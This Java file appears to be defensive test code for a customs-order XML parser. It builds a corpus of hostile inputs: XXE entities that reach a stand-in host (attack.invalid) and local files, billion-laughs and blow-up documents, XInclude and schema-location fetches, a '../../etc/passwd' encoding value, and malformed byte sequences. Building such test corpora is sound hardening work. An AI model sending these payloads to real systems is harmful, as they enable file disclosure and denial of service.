package org.paperlessport.schemas.ceb;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/** Documents made to harm who reads them: each a customs order with one trick in it. */
final class Attacks {

    private static final String ORDER = Papers.paper("CEB311");
    private static final String ROOT = ORDER.substring(Papers.DECLARATION.length());
    /** Nobody listens there; whoever asks is found out. */
    static final String OUTSIDE = "http://attack.invalid/x";

    private final Map<String, byte[]> all = new LinkedHashMap<>();

    private Attacks() {
    }

    /** By what they try. */
    static Map<String, byte[]> all(String server, String file) {
        Attacks attacks = new Attacks();
        for (String target : List.of(server, file, OUTSIDE, "jar:" + server + "!/a", "ftp://attack.invalid/a",
                "gopher://attack.invalid/a", "\\\\attack.invalid\\a")) {
            attacks.documentTypes(target);
        }
        attacks.entities();
        attacks.shapes();
        attacks.names();
        attacks.outside(server, file);
        attacks.characters();
        attacks.bytes();
        attacks.cuts();
        return attacks.all;
    }

    private void documentTypes(String target) {
        for (String type : List.of("<!DOCTYPE a SYSTEM \"%s\">", "<!DOCTYPE a PUBLIC \"-//A//B\" \"%s\">",
                "<!DOCTYPE a [<!ENTITY e SYSTEM \"%s\">]>", "<!DOCTYPE a [<!ENTITY e PUBLIC \"p\" \"%s\">]>",
                "<!DOCTYPE a [<!ENTITY %% e SYSTEM \"%s\"> %%e;]>",
                "<!DOCTYPE a [<!NOTATION n SYSTEM \"%s\"><!ENTITY e SYSTEM \"%1$s\" NDATA n>]>",
                "<!DOCTYPE a SYSTEM \"%s\" [<!ENTITY %% d \"<!ENTITY e SYSTEM '%1$s'>\"> %%d;]>")) {
            String declared = String.format(type, target);
            text(declared, Papers.DECLARATION + declared + ROOT.replaceFirst("<note>.*</note>", "<note>&e;</note>"));
        }
    }

    private void entities() {
        StringBuilder laughs = new StringBuilder("<!DOCTYPE a [<!ENTITY a0 \"ha\">");
        for (int i = 1; i < 40; i++) {
            laughs.append("<!ENTITY a").append(i).append(" \"")
                    .append(("&a" + (i - 1) + ";").repeat(10)).append("\">");
        }
        text("billion laughs", laughs + "]>" + ROOT.replaceFirst("<note>", "<note>&a39;"));
        text("quadratic blow-up", "<!DOCTYPE a [<!ENTITY a \"" + "a".repeat(100_000) + "\">]>"
                + ROOT.replaceFirst("<note>", "<note>" + "&a;".repeat(10_000)));
        text("entity of itself", "<!DOCTYPE a [<!ENTITY a \"&a;\">]>" + ROOT.replaceFirst("<note>", "<note>&a;"));
        text("parameter entity of itself", "<!DOCTYPE a [<!ENTITY % a \"%a;\"> %a;]>" + ROOT);
        text("attribute default", "<!DOCTYPE CEB311Message [<!ATTLIST CEB311Message version CDATA '2.0'>]>" + ROOT);
        text("huge internal subset", "<!DOCTYPE a [" + "<!ELEMENT b ANY>".repeat(100_000) + "]>" + ROOT);
        text("unfinished document type", "<!DOCTYPE a [" + ROOT);
        text("document type after comment", "<!-- a -->\n<?b c?>\n<!DOCTYPE a>" + ROOT);
        text("document type behind the root", ROOT + "<!DOCTYPE a>");
        text("document type inside", ROOT.replaceFirst("<note>", "<!DOCTYPE a><note>"));
        text("lower case document type", "<!doctype a>" + ROOT);
        for (String entity : List.of("&e;", "&nbsp;", "&amp", "&", "&;", "&#;", "&#x;", "&#0;", "&#x0;", "&#1;",
                "&#xB;", "&#x1F;", "&#xD800;", "&#xDFFF;", "&#xFFFE;", "&#xFFFF;", "&#x110000;", "&#99999999999;",
                "&#xFFFFFFFFF;", "&#-1;", "&#x-1;", "&#1a;", "& amp;", "&amp ;", "%e;&e;", "&lt;&e;")) {
            text("reference " + entity, ORDER.replaceFirst("<note>", "<note>" + entity));
            text("reference in an attribute " + entity, ORDER.replaceFirst("version=\"", "version=\"" + entity));
        }
    }

    private void shapes() {
        text("a hundred thousand levels", ORDER.replaceFirst("<note>", "<note>" + "<a>".repeat(100_000)));
        text("levels in an extension", ORDER.replaceFirst("<Message>", "<Message>" + "<a>".repeat(100_000)));
        text("levels of one name", "<CEB311Message>".repeat(50_000));
        text("a million siblings", ORDER.replaceFirst("<note>", "<a/>".repeat(1_000_000) + "<note>"));
        text("a million elements in an extension", ORDER.replaceFirst("<Message>",
                "<Message><m>" + "<a/>".repeat(1_000_000) + "</m>"));
        text("huge text", ORDER.replaceFirst("<note>", "<note>" + "a".repeat(20_000_000)));
        text("huge section", ORDER.replaceFirst("<note>", "<note><![CDATA[" + "a".repeat(20_000_000) + "]]>"));
        text("huge comment, huge fault", ORDER.replaceFirst("<note>", "<!--" + "a".repeat(20_000_000) + "--><nota/>"
                + "<note>"));
        text("a million sections", ORDER.replaceFirst("<note>", "<note>" + "<![CDATA[a]]>".repeat(1_000_000)));
        text("a million comments in a text", ORDER.replaceFirst("<note>", "<note>" + "a<!---->".repeat(1_000_000)));
        text("digits without end", ORDER.replaceFirst("<goodsValue>", "<goodsValue>" + "9".repeat(10_000_000)));
        text("a number in exponents", ORDER.replaceFirst("<goodsValue>.*<", "<goodsValue>1e2147483647<"));
        text("two roots", ROOT + ROOT);
        text("text behind the root", ORDER + "a");
        text("root inside root", ORDER.replaceFirst("<Order>", ROOT.replace("$", "") + "<Order>"));
    }

    private void names() {
        StringBuilder many = new StringBuilder();
        StringBuilder spaces = new StringBuilder();
        StringBuilder elements = new StringBuilder();
        for (int i = 0; i < 100_000; i++) {
            many.append(" a").append(i).append("=''");
            spaces.append(" xmlns:a").append(i).append("='urn:").append(i).append("'");
            elements.append("<e").append(i).append("/>");
        }
        text("many attributes", ORDER.replaceFirst(" version", many + " version"));
        text("many namespaces and a stranger", ORDER.replaceFirst(" version", spaces + " b='' version"));
        text("many names", ORDER.replaceFirst("<note>", elements + "<note>"));
        text("huge name", ORDER.replaceFirst("<note>", "<" + "a".repeat(5_000_000) + "/><note>"));
        text("huge attribute", ORDER.replaceFirst("version=\"", "version=\"" + "a".repeat(5_000_000)));
        text("huge attribute name", ORDER.replaceFirst("version=", "v" + "a".repeat(5_000_000) + "="));
        text("huge prefix", ORDER.replaceFirst("<note>", "<" + "p".repeat(1_000_000) + ":a/><note>"));
        text("huge target", ORDER.replaceFirst("<note>", "<?" + "p".repeat(5_000_000) + "?><nota/><note>"));
        for (String tag : List.of("<p:note/>", "<:note/>", "<note:/>", "<a:b:c/>", "<xml:note/>", "<xmlns:note/>",
                "<note xmlns:p=''/>", "<note xmlns:xml='urn:a'/>", "<note xmlns:xmlns='urn:a'/>",
                "<note xmlns:p='http://www.w3.org/2000/xmlns/'/>", "<note xmlns='http://www.w3.org/2000/xmlns/'/>",
                "<note a='1' a='2'/>", "<note xmlns:p='u' xmlns:q='u' p:a='1' q:a='2'/>",
                "<note xmlns:p='u' xmlns:p='u'/>", "<note a/>", "<note a=1/>", "<note a='<'/>", "<note a='1'b='2'/>",
                "<note a='1\u0000'/>", "<1note/>", "<-note/>", "< note/>", "</note>", "<note></ note>", "<note></Note>",
                "<note></p:note>", "<note", "<note/", "<note / >", "<?xml version='1.0'?>", "<?XML a?>", "<? a?>",
                "<?a", "<!-- -- -->", "<!--->", "<!-- a", "<!a>", "<![CDATA[a", "<![cdata[a]]>", "<![INCLUDE[a]]>",
                "<note>]]></note>", "<![CDATA[a]]>b", "<note><![CDATA[a]]]]>></note>")) {
            text("tag " + tag, ORDER.replaceFirst("<note>", tag.replace("$", "") + "<note>"));
        }
    }

    private void outside(String server, String file) {
        for (String target : List.of(server, file)) {
            text("inclusion of " + target, ORDER.replaceFirst("<note>",
                    "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='" + target + "'/><note>"));
            text("inclusion as text of " + target, ORDER.replaceFirst("<note>", "<xi:include parse='text' "
                    + "xmlns:xi='http://www.w3.org/2001/XInclude' href='" + target + "'/><note>"));
            text("style sheet of " + target, Papers.DECLARATION + "<?xml-stylesheet href='" + target
                    + "'?><nota/>" + ROOT);
            text("model of " + target, Papers.DECLARATION + "<?xml-model href='" + target + "'?>"
                    + ROOT.replaceFirst("<note>", "<nota/><note>"));
            text("schema at " + target, ORDER.replaceFirst(" version", " xmlns:i='http://www.w3.org/2001/"
                    + "XMLSchema-instance' i:schemaLocation='" + FieldTable.CEB + " " + target + "' i:type='a' version"));
            text("schema without namespace at " + target, ORDER.replaceFirst(" version", " xmlns:i='http://www.w3.org/"
                    + "2001/XMLSchema-instance' i:noNamespaceSchemaLocation='" + target + "' i:nil='true' version"));
            text("namespace " + target, ORDER.replaceFirst(FieldTable.CEB, target));
            text("base " + target, ORDER.replaceFirst(" version", " xml:base='" + target + "' version"));
        }
    }

    private void characters() {
        for (int c : new int[] {0, 1, 8, 0xB, 0xC, 0x1F, 0xFFFE, 0xFFFF}) {
            text("character " + c, ORDER.replaceFirst("<note>", "<note>" + Character.toString(c)));
            text("character in a tag " + c, ORDER.replaceFirst("<note>", "<no" + Character.toString(c) + "te>"));
        }
        for (String declaration : List.of("<?xml?>", "<?xml version='2.0'?>", "<?xml version='1.0' encoding='UTF-8' a='b'?>",
                "<?xml encoding='UTF-8' version='1.0'?>", "<?xml version='1.0' standalone='maybe'?>",
                "<?xml version='1.0' encoding=''?>", "<?xml version='1.0' encoding='" + "a".repeat(100_000) + "'?>",
                "\n<?xml version='1.0'?>", "<?xml version='1.0'", "<?xml version='1.0' encoding='UTF-8\u0000'?>",
                "<?xml version='1.0' encoding='../../etc/passwd'?>", "<?xml version='1.0' encoding='IBM037'?>",
                "<?xml version='1.0' encoding='UTF-7'?>", "<?xml version='1.0' encoding='ISO-2022-CN'?>")) {
            text("declaration " + (declaration.length() > 60 ? "huge" : declaration), declaration + ROOT);
        }
    }

    private void bytes() {
        for (int[] wrong : new int[][] {{0xC0, 0x80}, {0xC0, 0xBC}, {0xC1, 0xBF}, {0xE0, 0x80, 0xBC},
            {0xF0, 0x80, 0x80, 0xBC}, {0xED, 0xA0, 0x80}, {0xED, 0xA0, 0x80, 0xED, 0xB0, 0x80}, {0xF4, 0x90, 0x80, 0x80},
            {0xF8, 0x88, 0x80, 0x80, 0x80}, {0xFC, 0x84, 0x80, 0x80, 0x80, 0x80}, {0x80}, {0xBF}, {0xC3}, {0xE4, 0xB8},
            {0xF0, 0x9F, 0x98}, {0xFE}, {0xFF}, {0xC3, 0x28}, {0xE2, 0x28, 0xA1}, {0xC4, 0xFE}}) {
            all.put("bytes " + Arrays.toString(wrong), with(wrong));
        }
        String wide = ORDER.replace("UTF-8", "UTF-16");
        byte[] bytes = wide.getBytes(StandardCharsets.UTF_16BE);
        all.put("UTF-16 of odd length", Arrays.copyOf(bytes, bytes.length - 1));
        bytes[bytes.length / 2 & ~1] = (byte) 0xD8;
        all.put("UTF-16 with half a character", bytes);
        all.put("UTF-16 said to be UTF-8", ORDER.getBytes(StandardCharsets.UTF_16));
        all.put("UTF-8 said to be UTF-16", Papers.bytes(wide));
        all.put("UTF-32", ORDER.getBytes(Charset.forName("UTF-32")));
        all.put("GBK said to be UTF-8", ORDER.getBytes(Charset.forName("GBK")));
        all.put("half in GBK", concat(Papers.bytes(ORDER.substring(0, 900)),
                ORDER.substring(900).getBytes(Charset.forName("GBK"))));
        all.put("two byte order marks", Papers.bytes("\uFEFF\uFEFF" + ORDER));
        all.put("zeros behind", concat(Papers.bytes(ORDER), new byte[1000]));
    }

    /** Cut inside every kind of token: declaration, tag, attribute, text, reference, section, comment, end tag. */
    private void cuts() {
        String paper = ORDER.replaceFirst("<note>", "<!-- comment --><?target text?><note>&lt;<![CDATA[section]]>");
        for (String token : List.of("?xml", "version=\"1.0\" enc", "<CEB311", "xmlns=\"http", "guid=\"4A", "<Order",
                "<OrderHead>", "<orderNo>", "</orderNo", "<!-", "<!-- com", "<!-- comment -", "<?tar", "<?target te",
                "<?target text", "&l", "<![CD", "<![CDATA[sec", "<![CDATA[section]", "</note", "</OrderHead>",
                "</Order>", "<ds:Sig", "xmlns:ds=\"h", "Algorithm=", "</ds:Signature>", "</CEB311Mess")) {
            int end = paper.indexOf(token) + token.length();
            text("cut after " + token, paper.substring(0, end));
        }
    }

    private static byte[] with(int... bytes) {
        int at = ORDER.indexOf("<note>") + 6;
        byte[] wrong = new byte[bytes.length];
        for (int i = 0; i < bytes.length; i++) {
            wrong[i] = (byte) bytes[i];
        }
        return concat(concat(Papers.bytes(ORDER.substring(0, at)), wrong), Papers.bytes(ORDER.substring(at)));
    }

    private static byte[] concat(byte[] one, byte[] other) {
        byte[] both = Arrays.copyOf(one, one.length + other.length);
        System.arraycopy(other, 0, both, one.length, other.length);
        return both;
    }

    private void text(String name, String document) {
        all.put(name, Papers.bytes(document));
    }
}
